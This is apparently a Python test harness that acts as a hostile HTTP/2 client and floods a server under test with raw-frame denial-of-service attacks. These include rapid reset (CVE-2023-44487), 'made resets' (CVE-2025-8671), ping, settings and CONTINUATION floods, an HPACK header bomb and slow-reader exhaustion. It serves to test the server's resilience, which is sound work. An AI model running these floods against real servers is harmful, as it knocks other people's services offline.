"""One hostile HTTP/2 client as a program: `python -m tests.promises.attacker HOST:PORT NAME SECONDS`.

It attacks until the time is over, connecting anew whenever the server has had enough, and prints how often it did.
"""

import asyncio
import contextlib
import os
import struct
import sys
import time
from collections.abc import Awaitable, Callable

from tests.promises.raw_calls import PREFACE, SETTINGS, block, frame

PATH = "/url.URLService/GetURL"
LIST = "/url.URLService/ListURLs"
HEADERS, DATA, PRIORITY, RST_STREAM, PING, WINDOW_UPDATE, CONTINUATION = 1, 0, 2, 3, 6, 8, 9
BODY = struct.pack(">BI", 0, 9) + b"\n\x07unknown"
GREETING = PREFACE + frame(SETTINGS, 0, 0)
NO_WINDOW = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
REQUEST = block(PATH)
LISTING = block(LIST)
LIST_BODY = struct.pack(">BI", 0, 9) + b"\x08\xe8\x07\x1a\x04many"
"""ListURLs of the owner "many", 1,000 of them."""

Connections = tuple[int, bytes, bytes]
"""How many at once, what each sends first, and what it sends again and again."""


def resets() -> bytes:
    """Calls that are reset at once (CVE-2023-44487), on numbers that fit one connection."""
    return b"".join(
        frame(HEADERS, 4, number, REQUEST) + frame(RST_STREAM, 0, number, struct.pack(">I", 8))
        for number in range(1, 20_001, 2)
    )


def made_resets() -> bytes:
    """Calls whose frames make the server reset them (CVE-2025-8671): a window update of nothing."""
    return b"".join(
        frame(HEADERS, 4, number, REQUEST) + frame(WINDOW_UPDATE, 0, number, bytes(4)) for number in range(1, 20_001, 2)
    )


def slow_readers() -> bytes:
    """A hundred calls with large answers, none of which is ever read."""
    return b"".join(
        frame(HEADERS, 4, number, LISTING) + frame(DATA, 1, number, LIST_BODY) for number in range(1, 200, 2)
    )


def header_bomb() -> bytes:
    """A table entry of 4,000 bytes, referred to 16,000 times in one block."""
    entry = b"\x40\x01x" + b"\x7f" + bytes([0x81, 0x1E]) + b"a" * 4000
    return frame(HEADERS, 4, 1, REQUEST + entry + b"\xbe" * 11_000)


ATTACKS: dict[str, Connections] = {
    "pings": (1, GREETING, frame(PING, 0, 0, bytes(8)) * 3000),
    "settings": (1, GREETING, frame(SETTINGS, 0, 0, struct.pack(">HIHI", 4, 70_000, 4, 80_000)) * 3000),
    "rapid reset": (1, GREETING, resets()),
    "made resets": (1, GREETING, made_resets()),
    "continuations": (1, GREETING + frame(HEADERS, 0, 1), frame(CONTINUATION, 0, 1, b"\0\1a\1b") * 3000),
    "empty continuations": (1, GREETING + frame(HEADERS, 0, 1), frame(CONTINUATION, 0, 1) * 3000),
    "empty data": (1, GREETING + frame(HEADERS, 4, 1, REQUEST), frame(DATA, 0, 1) * 3000),
    "priorities": (1, GREETING, frame(PRIORITY, 0, 1, bytes(5)) * 3000),
    "window updates": (1, GREETING + frame(HEADERS, 4, 1, REQUEST), frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1") * 3000),
    "unknown frames": (1, GREETING, frame(200, 0, 0) * 3000),
    "header bomb": (1, GREETING, header_bomb()),
    "slow readers": (20, NO_WINDOW + slow_readers(), b""),
    "unread pings": (5, GREETING, frame(PING, 0, 0, bytes(8)) * 3000),
    "half messages": (
        20,
        GREETING
        + b"".join(
            frame(HEADERS, 4, number, REQUEST) + frame(DATA, 0, number, struct.pack(">BI", 0, 1 << 20) + bytes(2000))
            for number in range(1, 200, 2)
        ),
        b"",
    ),
    "no preface": (500, b"", b""),
    "half a preface": (500, PREFACE[:10], b""),
}
LEAST_SECONDS = 0.2
"""What a connection lasts on a machine that is too busy to connect in time."""
READS = frozenset(ATTACKS) - {"slow readers", "unread pings"}


async def attack(address: str, name: str, seconds: float) -> int:
    """Attack; return how many connections it took."""
    count, first, again = ATTACKS[name]
    end = time.monotonic() + seconds
    return sum(await asyncio.gather(*(_attacker(address, name, first, again, end) for _ in range(count))))


async def _attacker(address: str, name: str, first: bytes, again: bytes, end: float) -> int:
    host, _, port = address.rpartition(":")
    connections = 0
    while not connections or time.monotonic() < end:
        with contextlib.suppress(OSError, TimeoutError, asyncio.IncompleteReadError):
            reader, writer = await asyncio.open_connection(host, int(port))
            connections += 1
            try:
                async with asyncio.timeout(max(end - time.monotonic(), LEAST_SECONDS)):
                    await _one(reader, writer, first, again, reads=name in READS)
            finally:
                writer.transport.abort()
    return connections


async def _one(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, first: bytes, again: bytes, *, reads: bool
) -> None:
    async def read() -> None:
        while await reader.read(65_536):
            pass

    async def write() -> None:
        writer.write(first)
        await writer.drain()
        while again:
            writer.write(again)
            await writer.drain()

    tasks: list[Awaitable[None]] = [write(), *([read()] if reads else [])]
    await asyncio.gather(*tasks)
    if not reads:
        await asyncio.sleep(3600)


if __name__ == "__main__":
    os.nice(5)  # it stands for another machine: what it takes of ours is not the server's to bear
    start: Callable[[], int] = lambda: asyncio.run(attack(sys.argv[1], sys.argv[2], float(sys.argv[3])))  # noqa: E731 - one line
    print(start())  # noqa: T201 - this is a program
